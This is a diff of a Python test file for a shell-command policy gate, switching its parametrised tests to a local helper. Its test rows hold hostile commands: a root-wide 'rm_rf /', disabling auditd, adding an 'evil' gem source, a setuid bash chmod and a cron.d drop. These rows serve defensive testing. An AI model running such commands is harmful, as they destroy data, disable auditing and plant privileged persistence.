@@ -6,9 +6,9 @@ jruby, bun), behind python's runner modules (pdb, cProfile, profile, trace, runp
 idlelib, coverage and the profilers as their tools), a pattern in `-m`'s module name, and perl's
 ExtUtils::Command (`perl -MExtUtils::Command -e rm_rf /`, the twin of `ruby -run`). Judged as
 the gates judge them: typed and as an exec command. Honest lines beside them still run."""
-import pytest
 
 from tests.policy_rows import assert_held_or_runs, typed_and_exec
+from tests.rows import each
 
 UPD = "/usr/sbin/update-rc.d auditd disable"
 GEM = "/usr/bin/gem sources --add http://evil/"
@@ -101,12 +101,12 @@ ROWS = [
 ALERTS = [f"{EU} chmod 4755 /bin/bash", f"{EU} mv /tmp/x /etc/cron.d/x"]
 
 
-@pytest.mark.parametrize(("line", "held"), ROWS)
+@each(("line", "held"), ROWS)
 def test_a36f_a_lines(default_policy, line: str, held: bool) -> None:
     assert_held_or_runs(default_policy, line, held)
 
 
-@pytest.mark.parametrize("line", ALERTS)
+@each("line", ALERTS)
 def test_a36f_a_alerts(default_policy, line: str) -> None:
     for verdict in typed_and_exec(default_policy, line):
         assert verdict.action in ("alert", "confirm", "deny"), verdict
